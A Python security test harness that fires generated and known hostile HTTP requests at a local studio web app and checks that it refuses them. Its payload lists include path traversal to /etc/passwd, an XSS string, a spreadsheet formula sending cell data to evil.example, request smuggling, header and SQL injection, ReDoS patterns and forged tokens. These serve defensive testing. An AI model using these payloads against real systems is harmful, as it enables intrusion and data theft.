"""Hostile requests to a studio over a real connection: by its description and against it, and the known attacks.

    PYTHONPATH=tests python tests/tools/hostile_studio.py --requests 2000

The laws: no status of 500 or more, but for the readiness route's 503; every refusal is problem details with one
sentence; no page of ours holds markup that came from outside; no cell of a table is a formula; nobody without a token
learns anything; no file outside the home is opened for writing, and none but the program's own for reading; the server
logs no error. The suite runs a part of it (`test_studio_api.py`). Prints the answers by status, and ends with 1 where a
law is broken.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import functools
import io
import json
import logging
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from functools import partial
from http.client import HTTPException, HTTPResponse
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import hostile_files
import psutil
import studio_api
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from studio_examples import EXAMPLES, ROWS

from peftbook.studio import access
from peftbook.studio.api.page import operations
from peftbook.studio.app import build_app
from peftbook.studio.sessions import SessionStore, owner_token
from peftbook.studio.store import Studio
from peftbook.studio.tabular import FORMULA_STARTS
from peftbook.studio.uploads import UploadStore
from peftbook.tasks.table import Caps

MARKUP = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
SENTENCE_CHARS = 600
NO_HTTP = b"Invalid HTTP request received."  # which uvicorn says
SLOW_SECONDS = 10.0  # of one request, of a processor
WAIT_SECONDS = 600.0  # on a machine that does other things too
GROWTH_BYTES = 1 << 30
EVENTS = {"open", "os.listdir", "os.mkdir", "os.remove", "os.rename", "os.scandir", "os.symlink", "os.system",
          "subprocess.Popen"}  # fmt: skip
CHILDREN = (
    "peftbook/tasks/parquet.py",
    "peftbook.decision.own_metrics.child",
)  # which read and score in their own process


@dataclass(frozen=True)
class Request:
    """What is sent. target: as it stands in the first line.  headers: in place of the usual ones; None leaves one out.

    statuses: those that it may be answered with; any, without.  cut: how many bytes of it are sent, all without.
    """

    method: str
    target: str
    headers: Mapping[str, str | None] = field(default_factory=dict)
    body: bytes = b""
    statuses: tuple[int, ...] = ()
    more: bytes = b""
    cut: int | None = None

    def raw(self, usual: Mapping[str, str]) -> bytes:
        """The bytes on the connection."""
        said: dict[str, str | None] = {**usual, "Content-Length": str(len(self.body)), **self.headers}
        lines = [f"{name}: {value}\r\n".encode("latin-1") for name, value in said.items() if value is not None]
        start = f"{self.method} {self.target} HTTP/1.1\r\n".encode("latin-1", "replace")
        return (start + b"".join(lines) + self.more + b"\r\n" + self.body)[: self.cut]


@dataclass(frozen=True)
class Answer:
    """What came back; status 0 where the connection was closed without a word."""

    status: int
    kind: str = ""
    body: bytes = b""
    policy: str = ""

    def tree(self) -> Any:
        return json.loads(self.body)


class Watch:
    """What the server's threads open and start, as Python's audit events tell; a hook cannot be taken away again."""

    def __init__(self) -> None:
        self.allowed: tuple[str, ...] = ()
        self.writable: tuple[str, ...] = ()
        self.thread: threading.Thread | None = None
        self.broken: list[str] = []
        sys.addaudithook(self.hear)

    def hear(self, event: str, details: tuple[Any, ...]) -> None:
        """An event of any thread."""
        if event not in EVENTS:
            return
        thread = threading.current_thread()
        if not self.allowed or (thread is not self.thread and not thread.name.startswith("AnyIO")):
            return
        if event in ("os.system", "subprocess.Popen"):
            if not any(child in str(details[1:2]) for child in CHILDREN):
                self.broken.append(f"{event} {details}")
            return
        if details[0] is None or isinstance(details[0], int) or os.sep not in os.fsdecode(details[0]):
            return  # a file that is open already, or a name within a folder that is
        path = os.path.realpath(os.fsdecode(details[0]))
        if event == "open" and Path(path).is_dir():
            return  # for a file without a name, which nobody else can open
        looks = event in ("os.listdir", "os.scandir")
        reads = looks or (event == "open" and not int(details[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
        if not path.startswith(self.allowed if reads else self.writable):
            self.broken.append(f"{event} {path}")


@dataclass
class Served:
    """A studio with a session in it, on a port of this machine; stand-ins compute and answer when `work` is called."""

    studio: Studio
    token: str
    port: int
    known: dict[str, str]
    description: dict[str, Any]
    thread: threading.Thread
    errors: list[str]
    texts: tuple[str, ...] = ("8",)
    counts: Counter[int] = field(default_factory=Counter)
    broken: list[str] = field(default_factory=list)

    @property
    def usual(self) -> dict[str, str]:
        """The headers of an honest request."""
        return {"Host": f"127.0.0.1:{self.port}", "Authorization": f"Bearer {self.token}", "Connection": "close"}

    def send(self, request: Request) -> Answer:
        """Ask, and hold the answer against the laws."""
        began = time.process_time()
        with socket.create_connection(("127.0.0.1", self.port), timeout=WAIT_SECONDS) as connection:
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # it had heard enough
                connection.sendall(request.raw(self.usual))
                if request.cut is not None:
                    connection.shutdown(socket.SHUT_WR)
            answer = received(connection, request.method)
        seconds = time.process_time() - began
        self.counts[answer.status] += 1
        faults = [*laws(request, answer)]
        if seconds > SLOW_SECONDS:
            faults.append(f"it took {seconds:.0f} s of a processor")
        if request.method in ("POST", "DELETE", "PUT") and answer.status < 400:
            studio_api.work(self.studio, self.texts)
        self.broken += [f"{request.method} {request.target[:200]} ({answer.status}): {fault}" for fault in faults]
        return answer

    def ask(self, method: str, path: str, body: Any = None) -> Any:
        """An honest request's tree."""
        content = body if isinstance(body, bytes) else b"" if body is None else json.dumps(body).encode()
        answer = self.send(Request(method, f"/api/v1{path}", {"Content-Type": "application/json"}, content))
        assert answer.status < 300, (method, path, answer)
        return answer.tree() if answer.body else None

    def upload(self, content: bytes, name: str = "questions.csv") -> str:
        """The id of a file that is all there."""
        file = self.ask("POST", "/files", {"filename": name, "bytes": max(1, len(content))})["id"]
        self.ask("PUT", f"/files/{file}/content", content)
        return file

    def renew(self) -> None:
        """What others have dropped or deleted of the session, at hand again."""
        with contextlib.suppress(Exception):
            self.studio.project(self.known["project"])
            UploadStore(self.studio.home, Caps()).get(self.known["file"])
            return
        self.known |= {"file": self.upload(ROWS.encode())}


def received(connection: socket.socket, method: str) -> Answer:
    """What a server answers, read to its end."""
    answer = HTTPResponse(connection, method=method)
    try:
        answer.begin()
        kind, policy = (answer.headers.get(name, "") for name in ("Content-Type", "Content-Security-Policy"))
        return Answer(answer.status, kind, answer.read(), policy)
    except (HTTPException, ConnectionResetError):
        return Answer(0)
    finally:
        answer.close()


def laws(request: Request, answer: Answer) -> Iterator[str]:
    """What is wrong with an answer."""
    ready = request.target.startswith("/api/v1/ready")
    of_api = request.target.startswith("/api/") and answer.body != NO_HTTP
    if answer.status >= 500 and not ready:
        yield f"an error of ours: {answer.body[:300]!r}"
    if request.statuses and answer.status not in request.statuses:
        yield f"not among {request.statuses}: {answer.body[:200]!r}"
    if answer.status >= 400 and of_api and not ready and request.method != "HEAD":
        yield from faults_of(answer)
    if answer.kind.startswith("text/html"):
        if MARKUP.encode() in answer.body or re.search(rb"<script(?![^>]* src=)", answer.body):
            yield "markup from outside, or a script in the page"
        if "unsafe" in answer.policy or "default-src 'self'" not in answer.policy:
            yield f"a policy that lets in: {answer.policy!r}"
    if answer.kind.startswith("text/csv") and answer.status == 200:
        cells = [cell for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))) for cell in row]
        yield from (f"a formula: {cell[:40]!r}" for cell in cells if is_formula(cell))
    if b"Traceback" in answer.body or b"root:x:0:0" in answer.body:
        yield "it tells of the inside"


def faults_of(answer: Answer) -> Iterator[str]:
    """What a refusal lacks of RFC 9457 and of one sentence."""
    if answer.kind != "application/problem+json":
        yield f"a refusal of kind {answer.kind!r}: {answer.body[:100]!r}"
        return
    said = answer.tree()
    words = said["detail"]
    if said["status"] != answer.status or not said["title"] or "type" not in said:
        yield f"not RFC 9457: {said}"
    if not words.endswith(".") or not words.isprintable() or not 10 < len(words) < SENTENCE_CHARS:
        yield f"no sentence: {words[:300]!r} ({len(words)} characters)"


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute it: a number is none."""
    with contextlib.suppress(ValueError):
        float(cell)
        return False
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


@functools.cache
def watch() -> Watch:
    """The one of this process."""
    return Watch()


@contextlib.contextmanager
def serving(home: Path) -> Iterator[Served]:
    """A studio whose session is over, with API and pages, on a port."""
    studio, sessions = Studio(home), SessionStore(home)
    app = build_app(studio, Caps(), sessions=sessions)
    client = studio_api.Client(app, {"authorization": f"Bearer {sessions.owner}"})
    known = studio_api.play(client, studio, "DELETE /projects/{project}")
    description = client("GET", "/api/v1/openapi.json").json()
    errors: list[str] = []
    handler = logging.Handler(logging.ERROR)
    handler.emit = lambda record: errors.append(str(record.exc_info[1] if record.exc_info else record.msg))  # type: ignore[method-assign]
    logging.getLogger("uvicorn.error").addHandler(handler)
    try:
        with studio_api.on_a_port(app) as (port, thread):
            yield Served(studio, sessions.owner, port, known, description, thread, errors)
    finally:
        logging.getLogger("uvicorn.error").removeHandler(handler)
        studio.close()


@contextlib.contextmanager
def watched(there: Served) -> Iterator[None]:
    """Within it, what the server opens counts."""
    home, ears = str(there.studio.home.resolve()), watch()
    programs = {sys.prefix, sys.base_prefix, str(Path(access.__file__).resolve().parents[2]), *sys.path}
    roots = [os.path.realpath(one) for one in programs if one]
    ears.thread, ears.broken, ears.writable = there.thread, [], (home, "/dev/null")
    ears.allowed = (
        home,
        *roots,
        "/proc",
        "/sys",
        "/dev",
        "/etc/localtime",
        "/etc/mime.types",
        "/usr/share",
    )
    before = beside(there.studio.home)
    try:
        yield
    finally:
        ears.allowed = ()
        there.broken += [f"opened: {one}" for one in dict.fromkeys(ears.broken)]
        there.broken += [f"made outside the home: {path}" for path in beside(there.studio.home) - before]
        there.broken += [f"logged: {one[:300]}" for one in dict.fromkeys(there.errors)]


def beside(home: Path) -> set[Path]:
    """What lies beside the home."""
    return set(home.parent.iterdir())


# --- requests by the description, and against it; pages with forms ---------------------------------------------

ODD = ["", "../../etc/passwd", FORMULA, MARKUP, "x" * 5000, "\x00", "é\u202e\ufeff", "' OR 1=1 --", "-1", "nan",
       "1e999", "{input}", "%2e%2e%2f", "\r\nX-Evil: 1", "\ud800", "/etc", "~root", "file:///etc/passwd", "𝟙",
       "9" * 5000]  # fmt: skip
ANY = st.text(st.characters(), max_size=20)  # with halves of surrogate pairs
LEAVES = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**30), 10**30), st.floats(), st.sampled_from(ODD), ANY
)  # fmt: skip
TREES = st.recursive(
    LEAVES, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(ANY, inner, max_size=3), max_leaves=6
)
KINDS = {
    "integer": st.integers(-2, 20) | st.integers(),
    "number": st.floats(-1, 10) | st.floats(),
    "string": st.sampled_from(ODD) | ANY,
    "boolean": st.booleans(),
    "null": st.none(),
    "object": st.dictionaries(ANY, LEAVES, max_size=3),
}


def values(schema: Mapping[str, Any], whole: Mapping[str, Any]) -> st.SearchStrategy[Any]:
    """What fits a schema, mostly: a text may be odd, a number beyond its bounds."""
    if name := schema.get("$ref", "").rpartition("/")[2]:
        return values(whole["components"]["schemas"][name], whole)
    if "properties" in schema:
        fields = {name: values(one, whole) for name, one in schema["properties"].items()}
        needed = {name: fields.pop(name) for name in schema.get("required", ())}
        return st.fixed_dictionaries(needed, optional=fields)
    if "anyOf" in schema:
        return st.one_of([values(one, whole) for one in schema["anyOf"]])
    if "enum" in schema:
        return st.sampled_from([*schema["enum"], "none"])
    if schema.get("type") == "array":
        return st.lists(values(schema.get("items", {}), whole), max_size=3)
    return KINDS.get(schema.get("type", ""), LEAVES)


def usual(schema: Mapping[str, Any]) -> st.SearchStrategy[Any]:
    """What a parameter is without being said, and numbers that could be."""
    return st.sampled_from([schema.get("default", 0), 1, 3, 40])


@st.composite
def mutated(draw: st.DrawFn, there: Served, bodies: list[Any]) -> Any:
    """The body of an example, with another value in a place or two."""
    body = studio_api.filled(draw(st.sampled_from(bodies)), there.known)
    if isinstance(body, dict):
        for name in draw(st.lists(st.sampled_from(sorted(body)), max_size=2)):
            body[name] = draw(LEAVES | st.lists(LEAVES, max_size=3))
    return body


TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "",
         "application/json; charset=utf-7", "application/octet-stream", "text/html"]  # fmt: skip


@st.composite
def requests(draw: st.DrawFn, there: Served) -> Request:
    """Any route with ids of the session or none, a body that fits or does not, whole or cut, by whoever."""
    method, path, operation = draw(st.sampled_from([*operations(there.description)]))
    route = f"{method} {path}"
    for name in re.findall(r"{(\w+)}", path):
        value = there.known.get(name.removesuffix("_id"), "adapter.zip")
        if not draw(st.integers(0, 3)):
            value = draw(st.sampled_from([*there.known.values(), "outputs.csv", *ODD]) | ANY)
        path = path.replace(f"{{{name}}}", quote(value, "", errors="surrogatepass"))
    asked = [one for one in operation.get("parameters", ()) if one["in"] == "query" and draw(st.booleans())]
    query = [(one["name"], str(draw(usual(one["schema"]) | values(one["schema"], there.description)))) for one in asked]
    target = f"/api/v1{path}" + (f"?{urlencode(query, errors='surrogatepass')}" if query else "")
    headers: dict[str, str | None] = {}
    body = b""
    for kind, form in operation.get("requestBody", {}).get("content", {}).items():
        honest = [one.body for one in EXAMPLES if one.route == route]
        fits = values(form["schema"], there.description)
        tree = draw(st.one_of(mutated(there, honest), mutated(there, honest), fits, TREES))
        headers["Content-Type"] = kind if draw(st.integers(0, 4)) else draw(st.sampled_from(TYPES))
        body = json.dumps(tree).encode() if kind.endswith("json") else draw(st.binary(max_size=60))
        body = body if draw(st.integers(0, 9)) else body[: draw(st.integers(0, len(body)))]
    statuses: tuple[int, ...] = ()
    if not draw(st.integers(0, 9)) and not path.startswith(("/health", "/ready")):
        headers["Authorization"] = draw(st.sampled_from(STRANGERS))
        statuses = (400, 401, 404)
    return Request(method, target, headers, body, statuses)


STEPS = ("data", "plan", "runs", "decision", "judge", "try", "files")
ASKED = ("plan", "runs", "job", "check", "part", "measure", "cost", "metrics", "row", "page", "token", "do", "make")
FIELD = re.compile(r'<(?:input|select|textarea|button)[^>]*? name="([^"]*)"(?:[^>]*? value="([^"]*))?')
Page = tuple[str, list[tuple[str, str]]]


def pages(there: Served) -> list[Page]:
    """The address of each page of the session, and the fields of its forms; not that which deletes the project."""
    project, file = f"/projects/{there.known['project']}", there.upload(ROWS.encode())
    found = []
    for path in ("/", "/status", f"/new/{file}", *(f"{project}/{step}" for step in STEPS)):
        fields = FIELD.findall(there.send(Request("GET", path, statuses=(200,))).body.decode())
        found.append((path, [field for field in fields if field[0] != "delete"]))
    return found


@st.composite
def visits(draw: st.DrawFn, there: Served, pages: list[Page]) -> Request:
    """A page with something odd in its address, or in what one of its forms sends."""
    path, fields = draw(st.sampled_from(pages))
    said = [field for field in fields if draw(st.integers(0, 3))]
    values_ = st.sampled_from([*there.known.values(), *ODD]) | ANY
    names = st.sampled_from([*(name for name, _ in fields), *ASKED])
    said += draw(st.lists(st.tuples(names, values_), max_size=3))
    text = urlencode([(name, value.encode("utf-8", "surrogatepass")) for name, value in said])
    if draw(st.booleans()):
        return Request("GET", f"{path}?{text}")
    kind = draw(st.sampled_from(["application/x-www-form-urlencoded"] * 4 + TYPES))
    body = text.encode() if draw(st.integers(0, 9)) else draw(st.binary(max_size=80))
    return Request("POST", path if draw(st.integers(0, 5)) else "/new", {"Content-Type": kind}, body)


STRANGERS = [None, "", "Bearer", "Bearer ", "Bearer " + "0" * 64, "Basic b3duZXI6b3duZXI=", "Basic %%%", "Bearer \xff",
             "Negotiate x", "bearer null", "Bearer " + "x" * 9000]  # fmt: skip


def generated(there: Served, count: int) -> None:
    """So many of them, a third to the pages."""
    whole, seen = f"/api/v1/projects/{there.known['project']}", pages(there)

    @settings(max_examples=count, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.one_of(requests(there), requests(there), visits(there, seen)))
    def each(request: Request) -> None:
        if (request.method, request.target) == ("DELETE", whole) and "Authorization" not in request.headers:
            return  # the session would be over
        there.renew()
        there.send(request)

    each()


# --- known attacks ---------------------------------------------------------------------------------------------

PATHS = """
    /../../etc/passwd /api/v1/../../etc/passwd /api/v1/%2e%2e/%2e%2e/etc/passwd /api/v1/..%2f..%2fetc%2fpasswd
    /api/v1/%252e%252e%252fetc%252fpasswd /api/v1/..\\..\\etc\\passwd /api/v1/..%5c..%5cetc%5cpasswd
    /api/v1/%c0%ae%c0%ae/etc/passwd /api/v1/files/%2e%2e%2ftoken /api/v1/files/..%00/table /api/v1/files/%00
    /api/v1/projects/..%2f..%2ftoken /api/v1/projects/%2e%2e /api/v1//etc/passwd //etc/passwd /token /studio.sqlite
    /api/v1/jobs/{job}/artefacts/..%2f..%2fdata.bin /api/v1/jobs/{job}/artefacts/%2e%2e%2fdata.bin
    /api/v1/jobs/{job}/artefacts/data.bin /api/v1/projects/{project}/recipes/..%2f..%2f..%2ftoken /openapi.json
    /studio/fonts/../../access.py /studio/fonts/%2e%2e/%2e%2e/access.py /static/..%2f..%2fetc/passwd /file=/etc/passwd
    /gradio_api/file=/etc/passwd /proxy=http://evil.example /api/v1/docs /api/v1/redoc /docs /redoc /metrics /admin
    /api/v1/projects/ /.git/config /api/v2/projects /API/V1/projects /api/v1;/projects /debug
    /studio/../studio.sqlite /studio/%2e%2e/studio.sqlite /studio/fonts/..%2f..%2faccess.py
    /studio/templates/home.html /projects/{project}/../../studio.sqlite /projects/{project}/..%2fdata.bin
    /projects/{project}/data.bin /projects/..%2f..%2fetc/passwd /projects/%2e%2e/data /new/..%2f..%2fstudio.sqlite
    /api/v1/jobs/..%2f..%2fdata.bin/artefacts/adapter.zip
    /gradio_api/run/predict /config /login /projects /projects/abcd/secrets /new/abcd/content
""".split()  # noqa: SIM905
HOSTS = ["evil.example", "evil.example:7861", "localhost.evil", "127.0.0.1:7861@evil.com", "127.0.0.1:",
         "[::1]evil.com", "127.0.0.1:x.evil.com", "127.0.0.1.evil.com", "127.0.0.1:80:80", "", " ",
         "localhost@evil", "127.0.0.1:999999", "[::1", "127.0.0.1,evil.com", "127.0.0.1/evil", "0x7f.1",
         "2130706433"]  # fmt: skip
SITES = [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Origin": "http://127.0.0.1:1"}, {"Origin": "http://["},
         {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}, {"Origin": "https://[::1]evil.com"},
         {"Origin": "http://127.0.0.1@evil.example"}]  # fmt: skip
RANGES = ["bytes=0-0", "bytes=-1", "bytes=5-1", "bytes=999999-", "bytes=", "bytes", "lines=1-2", "bytes=a-b",
          "bytes=0-0,2-2,4-4", "bytes=" + ",".join(f"{n}-" for n in range(3000)), "bytes=-0", "bytes=--1",
          "bytes=0-" + "9" * 4000]  # fmt: skip
DEEP = b"[" * 200_000
BODIES = [DEEP, b'{"a":' * 100_000, b'{"filename": "x", "bytes": ' + b"9" * 10_000 + b"}", b"\xff\xfe{", b"NaN",
          b"{}" * 9, b'{"filename": "\\ud800", "bytes": 1}', b'{"bytes": 1e999}', b'{"bytes": true}',
          b'{"bytes": 1, "bytes": 2}',
          b'\xef\xbb\xbf{"bytes": 3}', b'{"bytes": "1"}', b'{"__proto__": {}, "bytes": 1}', b'{"bytes": 0.5}',
          b'{"filename": "a\\u0000b", "bytes": 1}', b'{"filename": ["x"], "bytes": 1}', b"", b"\0" * 1000]  # fmt: skip

BODIES += [b'{"filename": %s, "bytes": 1}' % (b"[" * deep + b"]" * deep) for deep in range(900, 1000, 5)]


def attacks(there: Served) -> Iterator[Request]:
    """Those of one request each. A `Range` that is none is passed over: RFC 9110, section 14.2."""
    known, projects = there.known, "/api/v1/projects"
    json_kind = {"Content-Type": "application/json"}
    for path in PATHS:
        yield Request("GET", path.format(**known), statuses=(400, 404, 405, 422))
        yield Request("POST", path.format(**known), statuses=(400, 404, 405, 422))
    for host in HOSTS:
        yield Request("GET", projects, {"Host": host}, statuses=(400, 421))
    yield Request("GET", projects, {"Host": None}, statuses=(400, 421))
    yield Request("GET", projects, more=b"Host: evil.example\r\n", statuses=(400, 421))
    yield Request("GET", "http://evil.example/api/v1/projects", statuses=(200, 400, 404, 421))
    for site in SITES:
        body = b'{"filename": "x.csv", "bytes": 1}'
        yield Request("POST", "/api/v1/files", json_kind | site, body, (403,))
        for path in ("/", "/new", "/projects/abcd/data"):
            yield Request("POST", path, site, b"a,b\n", (403,))
        yield Request("DELETE", f"{projects}/{known['project']}", site, statuses=(403,))
        yield Request("GET", projects, site, statuses=(403,))
    for value in STRANGERS:
        for target in (projects, f"/api/v1/jobs/{known['job']}/artefacts/adapter.zip", "/api/v1/"):
            yield Request("GET", target, {"Authorization": value}, statuses=(400, 401))
    yield Request("GET", f"{projects}?token={there.token}", {"Authorization": None}, statuses=(401,))
    for cookie in (f"peftbook-session={there.token}", "peftbook-session=a; \x01=b", "=", ";" * 5000):
        yield Request("GET", projects, {"Authorization": None, "Cookie": cookie}, statuses=(400, 401))
    for value in RANGES:
        header = {"Range": value}
        yield Request("GET", f"/api/v1/jobs/{known['job']}/artefacts/adapter.zip", header, statuses=(200, 206, 416))
        yield Request("GET", f"/api/v1/jobs/{known['job']}/artefacts/outputs.csv", header, statuses=(200, 206, 416))
    for body in BODIES:
        yield Request("POST", "/api/v1/files", json_kind, body)
        yield Request("POST", f"{projects}/{known['project']}/checks", json_kind, body)
        yield Request("PATCH", f"{projects}/{known['project']}", json_kind, body, (400, 413, 422))
    yield from smuggled(known)
    for offset in ("1", "-1", "1e3", "9" * 4000, "0x0", "", "0&offset=5", "nan", "٣"):
        target = f"/api/v1/files/{known['file']}/content?offset={quote(offset, '&=')}"
        yield Request("PUT", target, body=b"more", statuses=(409, 413, 422, 404))
    for method in ("TRACE", "CONNECT", "OPTIONS", "PROPFIND", "HEAD", "get", "POST"):
        yield Request(method, f"{projects}/{known['project']}/rows", statuses=(400, 404, 405))


METRICS: list[Any] = [
    {"name": "a", "kind": "regex", "pattern": "(a+)+$"}, {"name": "a", "kind": "regex", "pattern": "(.*)*(.*)*[^8]$"},
    {"name": "a", "kind": "regex", "pattern": "(" * 500}, {"name": MARKUP, "kind": "exact"},
    {"name": "a", "kind": "json", "schema": {"$ref": "file:///etc/passwd"}},
    {"name": "a", "kind": "json", "schema": {"$ref": "http://evil.example/"}},
    {"name": "a", "kind": "json", "schema": {"$ref": "#"}}, {"name": "a", "kind": "json", "schema": "/etc/passwd"},
    {"name": "a", "kind": "sql", "tables": "/etc/passwd"}, {"name": "a", "kind": "python", "code": "import os"},
    {"name": "a", "kind": "sql", "tables": {"t; DROP TABLE jobs": {"columns": {"x": "TEXT"}, "rows": []}}},
    {"name": "a", "kind": "exact", "__class__": "x"}, {"name": "a", "kind": "number", "relative": 1},
]  # fmt: skip
LINES = ["a=sql:/etc/passwd", "a=json:schema=/etc/passwd", "/etc/passwd", "a=exec:id", "=", f"{MARKUP}=exact", "\0"]


def metrics(there: Served) -> Iterator[Request]:
    """Declarations that are no data: code, files, patterns that take for ever."""
    project, json_kind = f"/api/v1/projects/{there.known['project']}", {"Content-Type": "application/json"}
    for declared in METRICS:
        body = json.dumps({"metrics": [declared]}).encode()
        yield Request("PUT", f"{project}/metrics", json_kind, body, (200, 422))
        yield Request("GET", f"{project}/decision.html", statuses=(200, 422))
        yield Request("GET", f"{project}/decision.csv", statuses=(200, 422))
    yield Request("PUT", f"{project}/metrics", json_kind, b'{"metrics": []}', (200,))
    for line in LINES:
        yield Request("GET", f"{project}/decision?metric={quote(line, '')}", statuses=(422,))


def smuggled(known: Mapping[str, str]) -> Iterator[Request]:
    """Two lengths, odd lengths, folded and huge headers, line ends where none belong, and bodies that end too early."""
    inner = b"DELETE /api/v1/projects/x HTTP/1.1\r\nHost: x\r\n\r\n"
    files, kind = "/api/v1/files", {"Content-Type": "application/json"}
    both = b"Transfer-Encoding: chunked\r\n"
    yield Request("POST", files, kind, b"0\r\n\r\n" + inner, more=both)
    yield Request("POST", files, kind | {"Content-Length": None}, b"zz\r\n" + inner, more=both)
    yield Request("POST", files, kind | {"Content-Length": None}, b"5\r\n{}\r\n", more=both, cut=10_000)
    yield Request("POST", files, kind, b"{}", more=b"Content-Length: 40\r\n", statuses=(0, 400))
    for length in ("-1", "+2", "2, 2", "0x2", "9" * 30, "²", "", "1e1", "99999999999"):
        yield Request("POST", files, kind | {"Content-Length": length}, b"{}", cut=10_000)
    yield Request("POST", files, kind, b"{}", more=b"Transfer-Encoding: xchunked\r\n")
    yield Request("GET", "/api/v1/projects", more=b"X-Folded: a\r\n b\r\n")
    yield Request("GET", "/api/v1/projects", more=b"X y: 1\r\n", statuses=(400,))
    yield Request("GET", "/api/v1/projects", more=b"X-Null: a\0b\r\n", statuses=(400,))
    yield Request("GET", "/api/v1/projects", {"X-Long": "x" * 200_000}, statuses=(0, 400, 431))
    yield Request("GET", "/api/v1/projects", more=b"X-Many: 1\r\n" * 20_000, statuses=(0, 400, 431))
    yield Request("GET", "/api/v1/projects?" + "x" * 200_000, statuses=(0, 400, 414))
    yield Request("GET", "/api/v1/projects?" + "&".join(f"a{n}=1" for n in range(9000)), statuses=(0, 200, 400, 414))
    yield Request("GET", "/api/v1/projects\r\n\r\nGET /token", statuses=(0, 200, 400))
    for part in (20, 60, -2):  # a client that goes in the middle
        yield Request("POST", files, kind, b'{"filename": "x.csv", "bytes": 100}', cut=part)
    yield Request("PUT", f"/api/v1/files/{known['left']}/content", body=b"x" * 1000, cut=-500)
    yield Request("POST", files, kind | {"Content-Length": str(access.BODY_BYTES + 1)}, b"{}", (0, 413), cut=10_000)
    yield Request("POST", files, kind | {"Content-Length": None}, chunked(access.BODY_BYTES + 100_000), more=both)


def chunked(size: int) -> bytes:
    """A JSON text of so many blanks in chunks, which announces no length."""
    block = b" " * 65_536
    return b"".join(b"%x\r\n%s\r\n" % (len(block), block) for _ in range(size // len(block) + 1)) + b"0\r\n\r\n"


def hostile_uploads(there: Served, each: int) -> None:
    """Archives, bombs and damaged files: told from a table by its content, each in one sentence, in seconds.

    each: so many of a class, and of the three bombs.
    """
    dice = hostile_files.Dice(0)
    made = [partial(hostile_files.bomb, kind) for kind in range(each)]
    made += [partial(kind, dice) for kind in hostile_files.CLASSES[:-2] for _ in range(each)]  # but for the bombs
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    reading = json.dumps({"input": "q", "target": "a"}).encode()
    for at, content in enumerate(make() for make in made):
        if not content:
            continue
        name = hostile_files.NAMES[at % len(hostile_files.NAMES)]
        file = there.upload(content, name)
        refused = (422,) if at < each else ()
        there.send(Request("GET", f"/api/v1/files/{file}/table", statuses=refused))
        there.send(Request("POST", f"/api/v1/files/{file}/findings", {"Content-Type": "application/json"}, reading))
        asked = json.dumps({"file": file, "input": "q", "target": "a"}).encode()
        answer = there.send(Request("POST", "/api/v1/projects", {"Content-Type": "application/json"}, asked, refused))
        if answer.status == 201:
            there.ask("DELETE", f"/projects/{answer.tree()['id']}")
        else:
            there.send(Request("DELETE", f"/api/v1/files/{file}"))
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before
    if grown > GROWTH_BYTES:
        there.broken.append(f"memory grew by {grown / 2**20:.0f} MiB over hostile files")


def formulas_and_markup(there: Served) -> None:
    """Names, headers, cells and what a model wrote, each a formula and markup: none gets out as more than text."""
    header = f'"{MARKUP}","{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
    starts = [*FORMULA_STARTS, " =", "\x00="]
    rows = "".join(f'"{starts[n % len(starts)]}1+{n} {MARKUP}","{starts[-n % len(starts)]}2+{n}"\n' for n in range(60))
    file = there.upload((header + rows).encode(), f"{MARKUP}.csv")
    there.ask("GET", f"/files/{file}/table")
    reading = {"file": file, "name": f"{FORMULA}{MARKUP}", "input": MARKUP, "target": FORMULA}
    project = there.ask("POST", "/projects", reading)["id"]
    settings_ = {"models": ["small-llama"], "methods": ["untuned", "lora"], "seeds": 1, "tokens": 300,
                 "max_new_tokens": 4}  # fmt: skip
    check = there.ask("POST", f"/projects/{project}/checks", settings_)["id"]
    there.texts = tuple(f"{start}1{MARKUP}" for start in starts)
    there.ask("POST", f"/projects/{project}/plans", {"check": check})
    for job in there.ask("GET", f"/projects/{project}/jobs"):
        for path in ("artefacts/outputs.csv", "command"):
            there.send(Request("GET", f"/api/v1/jobs/{job['id']}/{path}", statuses=(200,)))
    for name in ("decision.csv", "decision.html", "decision.txt", "decision", "findings", "rows?split=train&count=60"):
        there.send(Request("GET", f"/api/v1/projects/{project}/{name}", statuses=(200,)))
    there.send(Request("GET", "/api/v1/", statuses=(200,)))
    there.ask("DELETE", f"/projects/{project}")


def two_at_once(there: Served) -> None:
    """Two who send one upload: its bytes are of one of them, or it is not whole."""
    for _ in range(5):
        file = there.ask("POST", "/files", {"filename": "two.csv", "bytes": 400_000})["id"]
        put = Request("PUT", f"/api/v1/files/{file}/content", statuses=(200, 409))
        with ThreadPoolExecutor(2) as pool:
            answers = [*pool.map(there.send, [replace(put, body=sign * 400_000) for sign in (b"a", b"b")])]
        kept = (there.studio.home / "drafts" / file).read_bytes()
        if len(set(kept)) > 1 or min(answer.status for answer in answers) != 200:
            there.broken.append(f"two uploads mixed: {[answer.status for answer in answers]}, {Counter(kept)}")


def stale_tokens(there: Served) -> None:
    """A token that was taken back, and one of somebody else's studio, open nothing."""
    sessions = SessionStore(there.studio.home)
    stolen = sessions.create("stolen")
    sessions.revoke("stolen")
    with tempfile.TemporaryDirectory() as other:
        others = owner_token(Path(other))
    for secret in (stolen, others, "stolen", there.token[:-1], there.token + "0", there.token.upper()):
        header = {"Authorization": f"Bearer {secret}"}
        there.send(Request("GET", "/api/v1/projects", header, statuses=(401,)))
        there.send(Request("POST", "/api/v1/files", header, b'{"bytes": 1}', (401,)))


